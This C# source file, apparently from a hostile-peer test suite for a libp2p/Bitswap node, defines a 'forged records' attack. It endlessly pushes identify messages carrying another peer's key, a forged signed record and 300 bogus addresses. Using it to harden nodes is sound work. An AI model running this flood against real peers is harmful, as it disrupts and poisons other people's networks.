using System.Security.Cryptography;
using Bitswap.Libp2p.Crypto;
using Bitswap.Node.Networks;

namespace Bitswap.Hostile.Attacks;

/// <summary>Says of itself what is not so: another's key, a record that another should have signed, addresses that are nobody's.</summary>
internal sealed class ForgedRecords : Attack
{
    private const int Addresses = 300;
    private static readonly string[] _push = ["/ipfs/id/push/1.0.0"];

    public override string Name => "forged records";

    public override string Summary => "identify pushes with another peer's key, a forged signed record and 300 addresses that are nobody's, as fast as they are taken";

    public override async Task RunAsync(Multiaddr target, int attacker, CancellationToken cancellationToken)
    {
        await using AttackPeer peer = await AttackPeer.ConnectAsync(target, reads: true, cancellationToken);
        while (true)
        {
            await using IByteStream stream = await peer.OpenAsync(_push, cancellationToken);
            await stream.WriteAsync(Forged(), cancellationToken);
            await stream.CloseWriteAsync(cancellationToken);
        }
    }

    // identify.proto: 1 public key, 2 addresses, 5 and 6 versions, 8 signed record (an envelope of key, type, payload and signature)
    private static byte[] Forged()
    {
        byte[] anothersKey = PrivateKey.Generate().PublicKey.Encode();
        byte[] envelope = Wire.Message(envelope =>
        {
            Wire.Write(envelope, 1, anothersKey);
            Wire.Write(envelope, 2, [0x03, 0x01]);
            Wire.Write(envelope, 3, RandomNumberGenerator.GetBytes(256));
            Wire.Write(envelope, 5, RandomNumberGenerator.GetBytes(64));
        });
        return Wire.Frame(Wire.Message(message =>
        {
            Wire.Write(message, 1, anothersKey);
            for (int i = 0; i < Addresses; i++)
            {
                Wire.Write(message, 2, Multiaddr.Parse($"/ip4/{RandomNumberGenerator.GetInt32(1, 224)}.1.2.{i % 250}/tcp/{1 + i}").ToByteArray());
            }

            Wire.Write(message, 6, new byte[200]);
            Wire.Write(message, 8, envelope);
        }));
    }
}
